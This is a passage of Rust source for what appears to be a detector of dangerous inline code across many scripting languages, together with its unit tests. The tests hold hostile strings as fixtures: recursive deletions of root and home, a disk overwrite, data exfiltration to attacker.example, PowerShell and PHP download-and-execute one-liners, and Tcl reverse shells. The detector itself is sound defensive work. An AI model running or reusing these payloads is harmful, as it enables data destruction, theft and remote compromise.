            "insert-file-contents" | "find-file" => sink.read(&arg(0)),
            "url-retrieve" | "url-retrieve-synchronously" => sink.url(&arg(0)),
            "open-network-stream" | "make-network-process" => {
                sink.socket = true;
                sink.facts.network = true;
            }
            "eval" => {
                if let Val::Str(code) | Val::Decoded(code) = arg(0) {
                    if let Sexp::List(inner) = &items[1] {
                        if matches!(inner.first(), Some(Sexp::Atom(a)) if a == "read") {
                            sink.eval_in(Language::EmacsLisp, &code);
                        }
                    }
                }
            }
            _ => {}
        }
    }
    for it in items {
        elisp_form(it, sink, depth + 1);
    }
}

impl Sink {
    /// Code in another language embedded here (`:py3 …` in vim, `python …` in gdb).
    fn eval_in(&mut self, lang: Language, code: &str) {
        crate::nested(lang, code, self.depth, &mut self.facts);
    }
}

#[cfg(test)]
mod tests {
    use crate::{analyse, Delete, Language, Write};

    fn del(path: &str, recursive: bool) -> Delete {
        Delete {
            path: path.into(),
            recursive,
        }
    }

    fn cmds(lang: Language, code: &str) -> Vec<String> {
        analyse(lang, code).commands
    }

    fn dels(lang: Language, code: &str) -> Vec<Delete> {
        analyse(lang, code).deletes
    }

    #[test]
    fn perl() {
        use Language::Perl;
        assert_eq!(dels(Perl, "unlink glob \"$ENV{HOME}/*\""), [del("~", true)]);
        assert_eq!(
            dels(
                Perl,
                "use File::Path qw(remove_tree); remove_tree(\"/home/u\")"
            ),
            [del("/home/u", true)]
        );
        assert_eq!(dels(Perl, "rmtree($ENV{HOME})"), [del("~", true)]);
        assert_eq!(cmds(Perl, "system(\"rm -rf /\")"), ["rm -rf /"]);
        assert_eq!(cmds(Perl, "`rm -rf ~`"), ["rm -rf ~"]);
        assert_eq!(cmds(Perl, "qx(id)"), ["id"]);
        assert_eq!(cmds(Perl, "exec \"rm\",\"-rf\",\"/etc\""), ["rm -rf /etc"]);
        assert_eq!(
            analyse(
                Perl,
                "open(my $f, \">\", \"/dev/sda\"); print $f \"\\0\" x 4096"
            )
            .writes,
            [Write {
                path: "/dev/sda".into(),
                append: false
            }]
        );
        assert!(analyse(Perl, "while(<>){ print if /foo/ }").is_empty());
        assert!(analyse(Perl, "print join(\",\", map { $_ * 2 } 1..3)").is_empty());
        assert!(analyse(Perl, "s/foo/bar/g").is_empty());
    }

    #[test]
    fn ruby() {
        use Language::Ruby;
        assert_eq!(
            dels(Ruby, "require \"fileutils\"; FileUtils.rm_rf(Dir.home)"),
            [del("~", true)]
        );
        assert_eq!(
            dels(Ruby, "Dir.glob(File.expand_path(\"~/**/*\")).each { |f| File.delete(f) if File.file?(f) }"),
            [del("~", true)]
        );
        assert_eq!(
            cmds(Ruby, "exec \"rm\", \"-rf\", \"/etc\""),
            ["rm -rf /etc"]
        );
        assert_eq!(cmds(Ruby, "puts %x(id)"), ["id"]);
        let f = analyse(Ruby, "require \"net/http\"; Net::HTTP.post(URI(\"https://attacker.example/u\"), File.read(\"/etc/hostname\"))");
        assert!(f.network_send);
        assert_eq!(f.reads, ["/etc/hostname"]);
        assert!(analyse(Ruby, "puts RUBY_VERSION").is_empty());
    }

    #[test]
    fn php_lua_awk() {
        assert_eq!(
            dels(
                Language::Php,
                "array_map(\"unlink\", glob(getenv(\"HOME\").\"/*\"));"
            ),
            [del("~", true)]
        );
        assert_eq!(cmds(Language::Php, "system(\"rm -rf ~\");"), ["rm -rf ~"]);
        assert_eq!(
            cmds(Language::Lua, "os.execute(\"rm -rf ~\")"),
            ["rm -rf ~"]
        );
        assert_eq!(
            dels(Language::Lua, "os.remove(\"/etc/passwd\")"),
            [del("/etc/passwd", false)]
        );
        assert_eq!(
            cmds(Language::Awk, "BEGIN { cmd = \"rm -rf /\"; system(cmd) }"),
            ["rm -rf /"]
        );
        assert_eq!(
            cmds(Language::Awk, "BEGIN { print \"rm -rf /home/u\" | \"sh\" }"),
            ["rm -rf /home/u"]
        );
        assert_eq!(
            cmds(Language::Awk, "BEGIN{ \"rm -rf /etc\" | getline }"),
            ["rm -rf /etc"]
        );
        assert!(analyse(Language::Awk, "{ system($0) }").runs_input);
        assert!(analyse(Language::Awk, "{ print $1 }").is_empty());
        assert!(analyse(Language::Awk, "{ s += $2 } END { print s }").is_empty());
        assert!(analyse(Language::Awk, "-F: '{print $1}'")
            .commands
            .is_empty());
    }

    #[test]
    fn command_languages() {
        use Language::*;
        assert_eq!(
            dels(PowerShell, "Remove-Item -Recurse -Force $HOME"),
            [del("~", true)]
        );
        assert_eq!(
            dels(PowerShell, "Remove-Item -Path / -Recurse -Force"),
            [del("/", true)]
        );
        assert_eq!(
            dels(PowerShell, "Get-ChildItem ~ | Remove-Item -Recurse -Force"),
            [del("~", true)]
        );
        assert_eq!(
            cmds(
                PowerShell,
                "Start-Process rm -ArgumentList \"-rf\",\"/home/u\""
            ),
            ["rm -rf /home/u"]
        );
        assert_eq!(
            cmds(PowerShell, "Invoke-Expression \"rm -rf /\""),
            ["rm -rf /"]
        );
        assert!(analyse(PowerShell, "Get-ChildItem src | Select-Object Name").is_empty());
        assert_eq!(dels(R, "unlink(\"~\", recursive=TRUE)"), [del("~", true)]);
        assert_eq!(cmds(R, "system(\"rm -rf /\")"), ["rm -rf /"]);
        assert_eq!(
            dels(Julia, "rm(homedir(); recursive=true)"),
            [del("~", true)]
        );
        assert_eq!(cmds(Julia, "run(`rm -rf /etc`)"), ["rm -rf /etc"]);
        assert_eq!(dels(Tcl, "file delete -force $env(HOME)"), [del("~", true)]);
        assert_eq!(
            cmds(AppleScript, "do shell script \"rm -rf ~\""),
            ["rm -rf ~"]
        );
        assert_eq!(cmds(Sqlite, ".shell rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(cmds(Sqlite, ".system rm -rf /home/u"), ["rm -rf /home/u"]);
        assert!(analyse(Sqlite, "select * from t;").is_empty());
        assert_eq!(cmds(Vim, ":!rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(cmds(Vim, "silent !make"), ["make"]);
        assert!(analyse(Vim, "%s/a/b/g").is_empty());
        assert_eq!(
            dels(EmacsLisp, "(delete-directory \"~\" t)"),
            [del("~", true)]
        );
        assert_eq!(
            cmds(EmacsLisp, "(shell-command \"rm -rf ~\")"),
            ["rm -rf ~"]
        );
        assert_eq!(cmds(Gdb, "!rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(cmds(Gdb, "python import os; os.system('id')"), ["id"]);
    }

    #[test]
    fn evals_fetched_text() {
        use Language::*;
        for (lang, code) in [
            (
                Php,
                r#"eval(file_get_contents("https://attacker.example/p.txt"));"#,
            ),
            (
                Php,
                r#"$c = file_get_contents('http://x.example/a'); eval($c);"#,
            ),
            (
                Perl,
                r#"use LWP::Simple; eval(get("https://x.example/p.pl"));"#,
            ),
            (Ruby, r#"eval(URI.open("https://x.example/p.rb").read)"#),
            (Ruby, r#"eval Net::HTTP.get(URI("https://x.example/p.rb"))"#),
            (PowerShell, "iex (irm https://attacker.example/p.ps1)"),
            (
                PowerShell,
                "Invoke-Expression (Invoke-RestMethod -Uri https://x.example/p)",
            ),
            (PowerShell, "iex (iwr https://x.example/p.ps1).Content"),
            (
                PowerShell,
                "iex (iwr -UseBasicParsing https://x.example/p.ps1).Content",
            ),
            (
                PowerShell,
                "IEX(New-Object Net.WebClient).DownloadString('https://x.example/p.ps1')",
            ),
            (
                PowerShell,
                "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))",
            ),
            (PowerShell, "$s = irm https://x.example/p.ps1; iex $s"),
            (
                PowerShell,
                "$s = (iwr https://x.example/p.ps1).Content; Invoke-Expression $s",
            ),
            (PowerShell, "irm https://x.example/p.ps1 | iex"),
        ] {
            let f = analyse(lang, code);
            assert!(f.evals_downloaded, "{lang:?}: {code}");
            assert!(f.network, "{lang:?}: {code}");
        }
        let f = analyse(PowerShell, "iex (irm https://attacker.example/p.ps1)");
        assert_eq!(f.urls, ["https://attacker.example/p.ps1"]);
    }

    #[test]
    fn local_text_is_not_fetched() {
        use Language::*;
        for (lang, code) in [
            (
                Php,
                "$c = json_decode(file_get_contents('config.json')); print_r($c);",
            ),
            (Php, "eval(file_get_contents('local.php'));"),
            (PowerShell, "iex $scriptBlock"),
            (
                PowerShell,
                "Invoke-Expression (Get-Content ./build.ps1 -Raw)",
            ),
            (
                PowerShell,
                "$v = (Get-Content package.json | ConvertFrom-Json).version; $v",
            ),
            (PowerShell, "Write-Host '(irm https://x.example/p)'"),
            (Ruby, r#"eval(File.read("script.rb"))"#),
            (Tcl, "set f [open data.txt]; puts [gets $f]; close $f"),
        ] {
            let f = analyse(lang, code);
            assert!(!f.evals_downloaded, "{lang:?}: {code}");
            assert!(!f.socket_shell, "{lang:?}: {code}");
        }
        assert!(
            analyse(PowerShell, "Write-Host '(irm https://x.example/p)'")
                .commands
                .is_empty()
        );
    }

    #[test]
    fn socket_input_run() {
        use Language::*;
        for code in [
            "set s [socket 203.0.113.7 4444]; while 1 { puts $s [exec sh -c [gets $s]]; flush $s }",
            "set c [socket 203.0.113.7 4444]\nwhile {[gets $c line] >= 0} { eval $line }",
            "set s [socket 203.0.113.7 4444]; eval [gets $s]",
            "set s [socket 203.0.113.7 4444]; exec /bin/sh <@ $s >@ $s 2>@1",
        ] {
            let f = analyse(Tcl, code);
            assert!(f.socket_shell, "{code}");
        }
        // A client that only talks over its socket.
        let f = analyse(
            Tcl,
            "set s [socket example.com 80]; puts $s hi; puts [gets $s]",
        );
        assert!(f.network && !f.socket_shell);
        assert_eq!(cmds(Tcl, "puts [exec git status]"), ["git status"]);
    }
}
